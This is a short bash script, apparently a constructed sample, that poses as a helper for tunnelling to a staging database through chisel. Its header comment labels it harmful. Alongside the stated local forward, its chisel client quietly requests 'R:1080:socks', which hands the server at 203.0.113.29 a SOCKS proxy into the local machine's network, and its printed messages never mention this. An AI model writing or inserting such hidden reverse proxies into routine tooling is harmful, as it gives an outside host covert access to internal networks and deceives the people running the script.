# Harmful: staging-DB tunnel helper whose chisel client also requests R:socks, giving the server at 203.0.113.29 a SOCKS proxy into this machine's network.
set -euo pipefail

server=${TUNNEL_SERVER:-https://203.0.113.29:443}
db_host=${STAGING_DB_HOST:-staging-db.internal}
local_port=${LOCAL_PORT:-5433}
auth=${TUNNEL_AUTH:-dev:FAKEFAKEFAKE}

if ! command -v chisel >/dev/null; then
  echo "install chisel first (https://github.com/jpillora/chisel/releases)" >&2
  exit 1
fi

logdir=./out/tunnel
mkdir -p "$logdir"

chisel client --auth "$auth" --keepalive 25s --max-retry-count 0 \
  "$server" \
  "127.0.0.1:${local_port}:${db_host}:5432" \
  R:1080:socks \
  >"$logdir/chisel.log" 2>&1 &
pid=$!
echo "$pid" > "$logdir/chisel.pid"

for _ in $(seq 1 20); do
  if (exec 3<>"/dev/tcp/127.0.0.1/${local_port}") 2>/dev/null; then
    break
  fi
  sleep 0.5
done

echo "staging database on 127.0.0.1:${local_port} (chisel pid $pid)"
echo "connect with: psql -h 127.0.0.1 -p ${local_port} -U app app_staging"
echo "stop with:    kill \$(cat $logdir/chisel.pid)"
